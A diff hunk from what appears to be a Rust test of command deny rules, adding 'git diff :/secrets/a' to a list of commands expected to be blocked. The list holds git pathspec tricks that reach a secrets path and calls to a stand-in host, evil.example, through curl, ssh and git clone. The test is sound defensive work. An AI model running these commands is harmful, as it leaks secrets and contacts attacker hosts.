@@ -193,6 +193,7 @@ fn r12_deny_rules_apply_at_any_command_length() {
         "git show :secrets/a && touch y".to_owned(),
         "git log -L 1,5:secrets/a".to_owned(),
         "git diff ':(top)secrets/a'".to_owned(),
+        "git diff :/secrets/a".to_owned(),
         "curl https://a.evil.example/x".to_owned(),
         "ssh me@evil.example".to_owned(),
         "git clone git@a.evil.example:x/y".to_owned(),
